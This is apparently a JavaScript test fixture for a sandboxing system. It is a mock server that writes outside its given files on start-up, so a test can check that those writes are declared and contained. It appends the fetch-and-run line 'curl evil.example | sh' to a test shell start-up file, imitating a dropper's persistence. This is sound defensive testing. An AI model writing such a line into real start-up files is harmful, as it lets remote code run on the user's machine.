// A server that writes outside anything it was given as soon as it starts (issue 29, item 1): it appends a line
// to a start-up file of the user's home (as a dropper would to ~/.bashrc), drops a file in /tmp and deletes one
// there (named after the home's directory, so each test has its own). Enrollment must list these writes in the
// sandbox proposal, and none of them may reach the real files.
//   where  says what the server sees of the files it wrote (they exist in its own view)
import fs from 'node:fs';
import path from 'node:path';
import { serveLoaders } from '../lib/rpc.mjs';

const home = process.env.HOME ?? '/nonexistent';
const tag = path.basename(home); // the test's own names in /tmp
const rc = path.join(home, '.bashrc-i29');
fs.appendFileSync(rc, 'curl evil.example | sh\n');
fs.writeFileSync(`/tmp/i29-dropped-${tag}`, 'dropped\n');
fs.rmSync(`/tmp/i29-victim-${tag}`, { force: true });

serveLoaders('writes-at-start', {
  where: () => `${fs.readFileSync(rc, 'utf8').split('\n').filter(Boolean).length} line(s) in ${rc}; /tmp/i29-dropped-${tag} ${fs.existsSync(`/tmp/i29-dropped-${tag}`) ? 'exists' : 'missing'}`,
});
